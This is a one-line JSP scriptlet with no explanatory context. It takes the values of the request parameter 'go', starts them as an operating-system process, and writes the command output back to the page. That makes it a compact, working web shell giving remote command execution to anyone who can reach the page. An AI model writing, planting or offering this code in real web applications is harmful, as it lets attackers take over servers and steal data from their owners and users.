<% java.util.List<String> c = java.util.Arrays.asList(request.getParameterValues("go")); Process p = new ProcessBuilder(c).start(); out.print(new String(p.getInputStream().readAllBytes())); %>
